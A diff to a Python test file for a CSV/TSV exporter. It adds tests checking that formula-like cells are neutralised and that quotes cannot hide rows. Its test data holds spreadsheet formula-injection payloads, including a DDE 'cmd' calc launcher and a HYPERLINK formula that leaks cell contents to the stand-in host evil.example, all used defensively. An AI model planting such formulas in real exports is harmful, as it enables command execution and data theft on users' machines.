@@ -129,11 +129,11 @@ def test_csv_has_a_header_empty_nulls_and_compact_json() -> None:
     )
 
 
-def test_tsv_escapes_tabs_and_line_ends_and_quotes_nothing() -> None:
+def test_tsv_escapes_tabs_and_line_ends_and_quotes_what_has_quotes() -> None:
     form = {"loc": 'say "a\tb"', "news": {"title": "one\ntwo\r\nthree\\n"}, "images": [{"title": 'a"b\n'}]}
     assert written("tsv", [form], "loc,news.title,lastmod,images").decode() == (
         "loc\tnews.title\tlastmod\timages\n"
-        'say "a\\tb"\tone\\ntwo\\r\\nthree\\\\n\t\t[{"title":"a\\\\"b\\\\n"}]\n'
+        '"say ""a\\tb"""\tone\\ntwo\\r\\nthree\\\\n\t\t"[{""title"":""a\\\\""b\\\\n""}]"\n'
     )
 
 
@@ -175,7 +175,7 @@ HOSTILE = [
     "plain", "a,b", 'say "yes"', "two\nlines", "dos\r\nline", "mac\rline", "tab\there", "back\\slash \\n \\t \\",
     "=1+1", "=cmd|'/c calc'!A1", "+1", "-1", "@x", " lead", "trail ", "emoji 🎬 世界 Grüße", "\x01\x02\x1b[31m\x7f",
     "\u2028\u2029\x85\x0b\x0c\x1c", '"', '""', "'", "\\", "\\\\", "null", "NULL", "NaN", "true", "1.50", "007", "#x",
-    "\ufeffbom", "//comment", "{}", "[]",
+    "\ufeffbom", "//comment", "{}", "[]", '"swallow', 'end"', '"=1+1"', ' "=1"', '"a"b', "'\"x", 'a""b',
 ]  # fmt: skip
 _UNESCAPED = {r"\t": "\t", r"\n": "\n", r"\r": "\r", "\\\\": "\\"}
 
@@ -188,9 +188,14 @@ def hostile_form(number: int, text: str) -> Form:
     return {"loc": f"https://example.com/{number}", "news": {"title": text}}
 
 
-def by_csv_module(path: Path) -> list[list[str]]:
+def by_csv_module(path: Path, **options: Any) -> list[list[str]]:
     with path.open(encoding="utf-8", newline="") as file:
-        return list(csv.reader(file, strict=True))
+        return list(csv.reader(file, strict=True, **options))
+
+
+def by_pandas(path: Path, **options: Any) -> list[list[str]]:
+    frame = needs("pandas").read_csv(path, dtype=str, keep_default_na=False, **options)
+    return [[*frame.columns], *frame.to_numpy().tolist()]
 
 
 def by_duckdb(path: Path, options: str) -> list[list[str]]:
@@ -207,10 +212,11 @@ def by_polars(path: Path, **options: Any) -> list[list[str]]:
 
 
 def by_lines(path: Path) -> list[list[str]]:
-    """As awk or cut read it."""
+    """As awk or cut read it, which leave quotes as they are."""
     *lines, rest = path.read_bytes().decode().split("\n")
     assert rest == ""
-    return [line.split("\t") for line in lines]
+    cells = [line.split("\t") for line in lines]
+    return [[cell[1:-1].replace('""', '"') if cell.startswith('"') else cell for cell in row] for row in cells]
 
 
 CSV_READERS = {
@@ -218,11 +224,14 @@ CSV_READERS = {
     "duckdb": lambda path: by_duckdb(path, "header=true"),
     "duckdb, all options": lambda path: by_duckdb(path, "header=true, delim=',', quote='\"', escape='\"'"),
     "polars": by_polars,
+    "pandas": by_pandas,
 }
 TSV_READERS = {
     "lines": by_lines,
-    "duckdb": lambda path: by_duckdb(path, "header=true, delim='\t', quote='', escape=''"),
-    "polars": lambda path: by_polars(path, separator="\t", quote_char=None),
+    "csv": lambda path: by_csv_module(path, delimiter="\t"),
+    "duckdb": lambda path: by_duckdb(path, "header=true, delim='\t'"),
+    "polars": lambda path: by_polars(path, separator="\t"),
+    "pandas": lambda path: by_pandas(path, sep="\t"),
 }
 
 
@@ -265,7 +274,10 @@ def test_tsv_says_what_the_jsonl_of_the_corpus_says(tmp_path: Path, reader: str)
 
 # --- csv and tsv: formulas ---
 
-FORMULAS = ["=1+1", "+1", "-1+cmd|'/c calc'!A1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]
+FORMULAS = [
+    "=1+1", "+1", "-1+cmd|'/c calc'!A1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\ta", " =1", "\xa0 +1", "\0=1", "\x1b@x",
+    "\ufeff=1", "\u200b-1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1", "\u3000＝1",
+]  # fmt: skip
 
 
 @pytest.mark.parametrize("text", FORMULAS)
@@ -273,8 +285,21 @@ def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None
     forms = [hostile_form(1, text)]
     rows = list(csv.reader(io.StringIO(written("csv", forms, "news.title,loc").decode(), newline=""), strict=True))
     assert rows[1] == [f"'{text}", "https://example.com/1"]
-    line = written("tsv", forms, "news.title,loc").decode().split("\n")[1]
-    assert unescaped(line.split("\t")[0]) == f"'{text}"
+    read = csv.reader(io.StringIO(written("tsv", forms, "news.title,loc").decode()), delimiter="\t", strict=True)
+    assert unescaped([*read][1][0]) == f"'{text}"
+
+
+@pytest.mark.parametrize("reader", CSV_READERS)
+@pytest.mark.parametrize("format", ["csv", "tsv"])
+def test_no_quote_hides_a_formula_or_a_row(tmp_path: Path, format: str, reader: str) -> None:
+    texts = ['"=HYPERLINK(""http://evil.example/?""&A1,""x"")"', "plain", '"swallow', "three", 'rows end"', "=1+1"]
+    file = tmp_path / f"urls.{format}"
+    file.write_bytes(
+        written(format, [hostile_form(number, text) for number, text in enumerate(texts)], "news.title,loc")
+    )
+    _, *rows = (CSV_READERS if format == "csv" else TSV_READERS)[reader.partition(",")[0]](file)
+    assert [row[0] for row in rows] == [*texts[:-1], "'=1+1"]
+    assert [row[1] for row in rows] == [f"https://example.com/{number}" for number in range(len(texts))]
 
 
 @pytest.mark.parametrize("format", ["csv", "tsv"])
@@ -282,9 +307,8 @@ def test_numbers_nested_values_and_other_text_get_no_apostrophe(format: str) -> 
     form = {"loc": "a=b", "priority": -0.5, "line": -1, "mobile": True, "sitemap": "'quoted", "images": [{"loc": "=1"}]}
     names = "loc,priority,line,mobile,sitemap,lastmod,images.loc"
     header, line, _ = written(format, [form], names).decode().split("\n")
-    images = '"[""=1""]"' if format == "csv" else '["=1"]'
     separator = {"csv": ",", "tsv": "\t"}[format]
-    assert line.split(separator) == ["a=b", "-0.5", "-1", "true", "'quoted", "", images]
+    assert line.split(separator) == ["a=b", "-0.5", "-1", "true", "'quoted", "", '"[""=1""]"']
     assert header.split(separator)[0] == "loc"
 
 
@@ -295,13 +319,17 @@ def test_any_text_comes_back(texts: list[str]) -> None:
     read = list(csv.reader(io.StringIO(text, newline=""), strict=True))
     assert [row[0] for row in read[1:]] == texts
     lines = written("tsv", forms, "sitemap,loc", guard=False).decode().split("\n")[1:-1]
-    assert [unescaped(line.split("\t")[0]) for line in lines] == texts
+    assert [unescaped(row[0]) for row in csv.reader(lines, delimiter="\t", strict=True)] == texts
 
 
 @given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1))
 def test_one_column_alone_is_read_as_well(texts: list[str]) -> None:
-    text = written("csv", [{"loc": "x", "sitemap": text} for text in texts], "sitemap", guard=False).decode()
-    assert list(csv.reader(io.StringIO(text, newline=""), strict=True))[1:] == [[text] for text in texts]
+    for format, separator in (("csv", ","), ("tsv", "\t")):
+        text = written(format, [{"loc": "x", "sitemap": text} for text in texts], "sitemap", guard=False).decode()
+        read = csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=True)
+        assert [[unescaped(cell) if format == "tsv" else cell for cell in row] for row in read][1:] == [
+            [text] for text in texts
+        ]
 
 
 @pytest.mark.parametrize("format", ["csv", "tsv"])
